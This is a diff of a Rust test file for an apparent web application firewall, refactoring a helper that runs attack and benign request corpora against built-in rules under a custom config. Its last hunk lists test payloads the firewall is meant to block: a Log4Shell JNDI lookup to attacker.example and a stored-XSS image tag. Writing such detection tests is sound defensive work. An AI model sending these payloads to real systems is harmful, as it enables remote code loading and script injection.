@@ -219,8 +219,12 @@ fn web_traffic_passes_at_paranoia_1() {
 /// Every record of one of the repository's own corpora (`tests/data/NAME`), and whether the
 /// built-in rules block it at paranoia 1.
 fn blocked_at_paranoia_1(name: &str) -> Vec<(CorpusRecord, bool)> {
+    blocked_with(name, &EvalConfig::default())
+}
+
+/// [`blocked_at_paranoia_1`] under `cfg` (exclusions, another level).
+fn blocked_with(name: &str, cfg: &EvalConfig) -> Vec<(CorpusRecord, bool)> {
     let set = load_builtin().unwrap();
-    let cfg = EvalConfig::default();
     let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
         .join("tests/data")
         .join(name);
@@ -228,7 +232,7 @@ fn blocked_at_paranoia_1(name: &str) -> Vec<(CorpusRecord, bool)> {
         .into_iter()
         .map(|(rec, raw)| {
             let req = httpraw::parse_request(&raw, Limits::default(), 1 << 20);
-            let blocked = set.evaluate(&req, &cfg).is_block();
+            let blocked = set.evaluate(&req, cfg).is_block();
             (rec, blocked)
         })
         .collect()
@@ -452,21 +456,7 @@ fn telemetry_profile_clears_log_shipping() {
         exclusions: std::sync::Arc::new(rulesets::Exclusions::compile(&specs).unwrap()),
         ..EvalConfig::default()
     };
-    let set = load_builtin().unwrap();
-    let judge = |name: &str| -> Vec<(CorpusRecord, bool)> {
-        let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
-            .join("tests/data")
-            .join(name);
-        requests_of(&path, 1)
-            .into_iter()
-            .map(|(rec, raw)| {
-                let req = httpraw::parse_request(&raw, Limits::default(), 1 << 20);
-                let blocked = set.evaluate(&req, &cfg).is_block();
-                (rec, blocked)
-            })
-            .collect()
-    };
-    let benign = judge("dataops-benign.jsonl");
+    let benign = blocked_with("dataops-benign.jsonl", &cfg);
     let wrongly: Vec<&str> = benign
         .iter()
         .filter(|(rec, blocked)| *blocked && !rec.id.contains("/dev-content/"))
@@ -478,12 +468,13 @@ fn telemetry_profile_clears_log_shipping() {
         "{} blocked: {wrongly:?}",
         wrongly.len()
     );
-    let missed = judge("dataops-attacks.jsonl")
+    let missed = blocked_with("dataops-attacks.jsonl", &cfg)
         .iter()
         .filter(|(_, blocked)| !blocked)
         .count();
     assert!(missed <= 2, "{missed} attacks let through with the profile");
     // What the profile keeps on an ingestion path: Log4Shell and stored XSS in a log record.
+    let set = load_builtin().unwrap();
     for payload in [
         "${jndi:ldap://attacker.example/a}",
         "<img src=x onerror=alert(document.domain)>",
